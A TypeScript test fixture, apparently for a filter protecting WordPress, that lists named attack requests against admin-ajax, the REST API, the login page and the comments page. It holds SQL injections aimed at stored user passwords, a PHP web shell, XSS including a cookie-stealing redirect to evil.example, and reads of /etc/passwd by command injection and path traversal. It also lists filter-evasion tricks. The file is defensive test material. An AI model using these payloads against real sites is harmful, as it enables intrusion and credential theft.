/** Attacks on WordPress in the places where its profile lets much pass. */
import { form, json, type Sent, type Shape, wordpressRequest } from './wordpress-request.support.ts'

const select = "1' UNION SELECT 1,user_pass,3 FROM wp_users-- -"
const script = '<script>alert(document.cookie)</script>'
const php = '<?php system($_GET["c"]); ?>'
const ajax = '/wp-admin/admin-ajax.php'

/** What is meant for users who are logged in, sent by strangers: plugins answer them at the same addresses. */
const strangers: readonly (readonly [string, Sent])[] = [
  [
    'content in an action of a plugin',
    { uri: ajax, body: form({ action: 'plugin', content: select }) },
  ],
  [
    'content in an action of a plugin, in the query',
    { uri: `${ajax}?action=plugin&content=${encodeURIComponent(select)}` },
  ],
  [
    'a widget in an action of a plugin',
    { uri: ajax, body: form({ action: 'plugin', 'instance[x]': select }) },
  ],
  [
    'code for an action of a plugin',
    { uri: ajax, body: form({ action: 'plugin', newcontent: php }) },
  ],
  [
    'code for the editor of files',
    { uri: ajax, body: form({ action: 'edit-theme-plugin-file', newcontent: php }) },
  ],
  [
    'code for the editor of plugins',
    { uri: '/wp-admin/plugin-editor.php', body: form({ action: 'update', newcontent: php }) },
  ],
  ['customized at the front page', { uri: '/', body: form({ customized: select }) }],
  [
    'a preview of the customizer',
    { uri: '/', body: form({ wp_customize: 'on', customized: script }) },
  ],
  [
    'a draft that saves itself',
    { uri: ajax, body: form({ action: 'heartbeat', 'data[wp_autosave][content]': php }) },
  ],
  ['a post of the block editor', { uri: '/wp-json/wp/v2/posts', ...json({ content: script }) }],
  ['a referer that is SQL', { uri: '/wp-admin/x.php', body: form({ _wp_http_referer: select }) }],
  [
    'where to go after the login, as a command',
    { uri: '/wp-login.php', body: form({ log: 'x', redirect_to: ';cat /etc/passwd' }) },
  ],
]

/** With a cookie that looks like that of somebody who is logged in: anybody can make one up. */
const pretenders: readonly (readonly [string, Sent])[] = [
  [
    'content in an action of a plugin',
    { uri: ajax, body: form({ action: 'plugin', content: select }) },
  ],
  [
    'two actions',
    {
      uri: `${ajax}?action=heartbeat`,
      body: form({ action: 'plugin', 'data[wp_autosave][content]': select }),
    },
  ],
  [
    'an action as PHP spells it',
    {
      uri: `${ajax}?+action=plugin`,
      body: form({ action: 'heartbeat', 'data[wp_autosave][content]': select }),
    },
  ],
  [
    'an action in brackets',
    {
      uri: `${ajax}?action[]=plugin`,
      body: form({ action: 'heartbeat', 'data[wp_autosave][content]': select }),
    },
  ],
  [
    'an action with a NUL',
    { uri: `${ajax}?action%00x=plugin`, body: form({ action: 'inline-save', post_title: select }) },
  ],
  ['no action', { uri: '/wp-admin/post.php', body: form({ content: select }) }],
  [
    'another route of the REST API',
    { uri: '/wp-json/wp/v2/posts?rest_route=/plugin/v1/x', ...json({ content: select }) },
  ],
  [
    'another route, as PHP spells it',
    { uri: '/wp-json/wp/v2/posts?rest.route=/plugin/v1/x', ...json({ content: select }) },
  ],
  [
    'another route with an open bracket',
    { uri: '/wp-json/wp/v2/posts?rest[route=/plugin/v1/x', ...json({ content: select }) },
  ],
  [
    'another route in a form',
    {
      uri: '/wp-json/wp/v2/posts',
      body: form({ rest_route: '/plugin/v1/x', 'json.content': select }),
    },
  ],
  [
    'another route instead of a batch',
    {
      uri: '/wp-json/batch/v1?rest_route=/plugin/v1/x',
      ...json({ requests: [{ path: '/wp/v2/posts', body: { content: select } }] }),
    },
  ],
  [
    'a batch with a route of a plugin',
    {
      uri: '/wp-json/batch/v1',
      ...json({
        requests: [
          { path: '/wp/v2/posts', body: {} },
          { path: '/plugin/v1/x', body: { content: select } },
        ],
      }),
    },
  ],
  [
    'a batch with two paths in one request',
    {
      uri: '/wp-json/batch/v1',
      type: 'application/json',
      body: `{"requests":[{"path":"/wp/v2/x","path":"/plugin/v1/x","body":{"content":"${select}"}}]}`,
    },
  ],
  [
    'PHP in a batch',
    {
      uri: '/wp-json/batch/v1',
      ...json({ requests: [{ path: '/wp/v2/posts', body: { title: php } }] }),
    },
  ],
  [
    'a field that no batch has',
    {
      uri: '/wp-json/batch/v1',
      ...json({ requests: [{ path: '/wp/v2/posts', body: { evil: select } }] }),
    },
  ],
  [
    'content where a post is only read',
    { uri: `/wp-json/wp/v2/posts?json.content=${encodeURIComponent(select)}` },
  ],
  [
    'Java in a post',
    {
      uri: '/wp-json/wp/v2/posts',
      ...json({ content: '(new java.lang.ProcessBuilder(1)).start(); java.lang.Runtime' }),
    },
  ],
  ['a preview that is none', { uri: '/', body: form({ customized: select }) }],
  [
    'a preview with an action',
    { uri: '/', body: form({ wp_customize: 'on', action: 'plugin', customized: select }) },
  ],
  [
    'a preview that goes to a route',
    { uri: '/?rest_route=/plugin/v1/x', body: form({ wp_customize: 'on', customized: select }) },
  ],
  [
    'code for another action of the editor',
    { uri: '/wp-admin/plugin-editor.php', body: form({ action: 'plugin', newcontent: php }) },
  ],
  [
    'a path with dots that are encoded',
    { uri: '/search/..%2fwp-json/wp/v2/posts', ...json({ content: select }) },
  ],
]

const named = (who: string, is_stranger: boolean, list: readonly (readonly [string, Sent])[]) =>
  list.map(([name, sent]) => [`${who}: ${name}`, { ...sent, is_stranger }] as const)

/** Attacks in the same places, in other parameters or by others. */
export const attackShapes: readonly Shape[] = (
  [
    [
      'SQL in the number of a post',
      {
        uri: "/wp-json/wp/v2/posts/123?_locale=user&orderby=1'%20UNION%20SELECT%20user_pass%20FROM%20wp_users--",
        ...json({ content: 'x' }),
      },
    ],
    [
      'a script in a field that no editor has',
      {
        uri: '/wp-json/wp/v2/posts/123',
        ...json({ content: 'x', evil: '<script>alert(document.cookie)</script>' }),
      },
    ],
    [
      'SQL in admin-ajax',
      {
        uri: '/wp-admin/admin-ajax.php',
        body: form({
          action: 'plugin_search',
          id: "1' UNION SELECT 1,user_pass,3 FROM wp_users-- -",
        }),
      },
    ],
    [
      'a file of the system by admin-ajax',
      { uri: '/wp-admin/admin-ajax.php?action=duplicator_download&file=../../../../etc/passwd' },
    ],
    [
      'SQL in the name of who logs in',
      {
        uri: '/wp-login.php',
        body: form({ log: "admin' UNION SELECT 1,2,3 FROM wp_users-- -", pwd: 'x' }),
      },
    ],
    [
      'a script in a comment',
      {
        uri: '/wp-comments-post.php',
        body: form({
          comment: '<script>document.location="https://evil.example/?"+document.cookie</script>',
          author: 'x',
        }),
      },
    ],
    [
      'a script in the name of a commenter',
      {
        uri: '/wp-comments-post.php',
        body: form({ comment: 'x', author: '<script>alert(1)</script>' }),
      },
    ],
    ['a command in a plugin', { uri: '/wp-content/plugins/x/run.php?cmd=;cat%20/etc/passwd' }],
    [
      'the editor’s parameter on another path',
      {
        uri: '/wp-content/plugins/x/save.php',
        body: form({
          content: "1' UNION SELECT user_pass FROM wp_users-- -<script>alert(1)</script>",
        }),
      },
    ],
    [
      'a way around by dots',
      {
        uri: '/wp-admin/post.php/../../x.php',
        body: form({ content: '<script>alert(document.cookie)</script>' }),
      },
    ],
    ['a method that nobody needs', { method: 'TRACE', uri: '/wp-json/wp/v2/posts' }],
    ['DELETE elsewhere', { method: 'DELETE', uri: '/wp-admin/post.php' }],
    ...named('a stranger', true, strangers),
    ...named('a pretender', false, pretenders),
  ] satisfies readonly (readonly [string, Sent])[]
).map(([name, one]) => ({ name, request: wordpressRequest(one) }))
